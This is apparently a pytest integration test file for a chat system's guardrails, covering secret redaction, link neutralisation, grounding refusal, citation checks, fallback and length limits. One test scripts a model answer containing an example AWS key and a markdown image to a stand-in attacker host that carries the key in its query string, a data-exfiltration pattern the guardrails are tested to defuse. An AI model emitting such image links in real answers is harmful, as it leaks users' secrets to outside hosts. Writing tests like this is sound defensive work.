"""Guardrails in a run: before the model is asked, and before anyone sees what it says."""

from __future__ import annotations

import json
from collections.abc import AsyncGenerator, Awaitable, Callable
from dataclasses import dataclass, field
from typing import Any
from uuid import UUID

import pytest

from adapters.guardrails.grounding import Grounding
from adapters.guardrails.links import Links
from adapters.guardrails.secrets import Secrets
from application.chat.answer_limits import AnswerLimits
from application.chat.guardrails import Guardrails
from application.chat.language_model import (
    CutOff,
    ModelLimits,
    ModelUnavailable,
    Piece,
    Quote,
    Spent,
    Text,
)
from domain.chat.event import Event
from domain.chat.excerpt import Excerpt
from domain.chat.prompt import Prompt
from domain.identity import Caller, ConversationId
from tests.integration.chat.conftest import Chat, OpenChat, Shared, idle, scripted

ALL = Guardrails([Grounding(), Secrets(), Links()])
KEY = "AKIA" + "IOSFODNN7EXAMPLE"
OWN = "Cats sleep all day. See https://cats.example/sleep for more of it."


@pytest.fixture
async def excerpt(asha: Caller, share: Callable[..., Awaitable[Shared]]) -> Excerpt:
    """Of a document that is shared with Asha."""
    return (await share(asha, words=OWN)).excerpt


async def told(chat: Chat, caller: Caller, question: str = "What do cats do?") -> list[Event]:
    asked = await chat.ask(caller, None, question)
    return await chat.events(caller, asked.run.id)


def of(events: list[Event], kind: str) -> list[dict[str, Any]]:
    return [json.loads(each.told) for each in events if each.type == kind]


def text_of(events: list[Event]) -> str:
    return "".join(each["text"] for each in of(events, "text_delta"))


@dataclass
class Listening:
    """`LanguageModel` that says something and remembers what it was asked."""

    asked: list[Prompt] = field(default_factory=list)
    name: str = "listening"
    marks_sources: bool = True
    is_metered: bool = False

    async def stream(self, prompt: Prompt, limits: ModelLimits) -> AsyncGenerator[Piece, None]:
        self.asked.append(prompt)
        yield Text("Cats sleep.")


async def test_what_nobody_may_see_is_in_no_event(
    open_chat: OpenChat, asha: Caller, excerpt: Excerpt
) -> None:
    said = f"Key {KEY}, ![a](https://evil.example/?q={KEY}) and <img src=x>."
    chat = await open_chat(scripted(*map(Text, said)), excerpts=[excerpt], guardrails=ALL)
    events = await told(chat, asha)
    shown = text_of(events)
    assert KEY not in "".join(each.told for each in events)
    assert shown == (
        "Key [secret removed], ![a] (https[:]//evil[.]example/?q=[secret removed]) and ‹img src=x>."
    )
    rulings = [(each["kind"], each["decision"]) for each in of(events, "guardrail")]
    assert sorted(rulings) == [("links", "neutralised")] * 3 + [("secrets", "redacted")] * 2
    messages = await chat.read.messages(
        caller=asha,
        conversation_id=ConversationId(UUID(json.loads(events[0].told)["conversation_id"])),
        after=1,
        limit=1,
    )
    assert messages[0].content == shown


async def test_who_finds_nothing_asks_no_model(open_chat: OpenChat, asha: Caller) -> None:
    model = Listening()
    chat = await open_chat(model, guardrails=ALL)
    events = await told(chat, asha)
    assert model.asked == []
    assert text_of(events) == "Nothing that you may see answers this."
    assert of(events, "guardrail") == [{"kind": "grounding", "decision": "refused"}]
    assert events[-1].type == "completed"


async def test_a_secret_in_a_question_goes_to_no_model(
    open_chat: OpenChat, asha: Caller, excerpt: Excerpt
) -> None:
    model = Listening()
    limits = AnswerLimits(history_tokens_max=1_000)
    chat = await open_chat(model, excerpts=[excerpt], guardrails=ALL, limits=limits)
    asked = await chat.ask(asha, None, f"Is {KEY} a good key?")
    events = await chat.events(asha, asked.run.id)
    assert of(events, "guardrail") == [{"kind": "secrets", "decision": "question_redacted"}]
    again = await chat.ask(asha, asked.run.conversation_id, "And why would it be one?")
    await chat.events(asha, again.run.id)
    given = "".join(each.text for prompt in model.asked for each in prompt.instructions)
    assert given.count("Is [secret removed] a good key?") == 2
    assert KEY not in given


async def test_a_quote_is_cited_as_far_as_it_is_shown(
    open_chat: OpenChat, asha: Caller, excerpt: Excerpt
) -> None:
    first, second = OWN[:19], OWN[20:]
    script = [
        *(Text(f"“{first}"), Quote(excerpt_id="e1", start=0, end=19, quote=first), Text("” ")),
        *(Text("“"), *map(Text, second)),
        Quote(excerpt_id="e1", start=20, end=len(OWN), quote=second),
        Text("”"),
        Quote(excerpt_id="e1", start=0, end=3, quote="Never said"),
        Spent(input_tokens=1, output_tokens=1),
    ]
    chat = await open_chat(scripted(*script), excerpts=[excerpt], guardrails=ALL)
    events = await told(chat, asha)
    shown = text_of(events).encode()
    cited = of(events, "citation")
    assert [(each["quote"], each["verified"]) for each in cited] == [
        (first, True),
        ("See https", True),
        ("", False),
    ]
    for each in cited:
        assert shown[each["answer_start"] : each["answer_end"]].decode() == each["quote"]
        if each["verified"]:
            assert OWN.encode()[each["start"] : each["end"]].decode() == each["quote"]


async def test_what_was_only_held_back_was_not_said(
    open_chat: OpenChat, asha: Caller, excerpt: Excerpt
) -> None:
    failing = scripted(Text("AKIA"), ModelUnavailable())
    chat = await open_chat(failing, scripted(Text("Well.")), excerpts=[excerpt], guardrails=ALL)
    events = await told(chat, asha)
    assert len(of(events, "fallback")) == 1
    assert text_of(events) == "Well."


async def test_an_answer_that_its_model_had_to_break_off_says_so(
    open_chat: OpenChat, asha: Caller, excerpt: Excerpt
) -> None:
    chat = await open_chat(
        scripted(Text("Cats sleep all"), CutOff()), excerpts=[excerpt], guardrails=ALL
    )
    events = await told(chat, asha)
    assert of(events, "guardrail") == [{"kind": "length", "decision": "cut"}]
    assert (text_of(events), events[-1].type) == ("Cats sleep all", "completed")


async def test_an_answer_that_grows_too_long_is_stopped(
    open_chat: OpenChat, asha: Caller, excerpt: Excerpt
) -> None:
    limits = AnswerLimits(answer_bytes_max=20)
    chat = await open_chat(
        scripted(*[Text("word ")] * 9), excerpts=[excerpt], guardrails=ALL, limits=limits
    )
    events = await told(chat, asha)
    assert of(events, "guardrail") == [{"kind": "size", "decision": "stopped"}]
    assert (events[-1].type, json.loads(events[-1].told)["code"]) == ("failed", "answer_too_long")
    assert text_of(events) == "word " * 4
    await idle(chat)
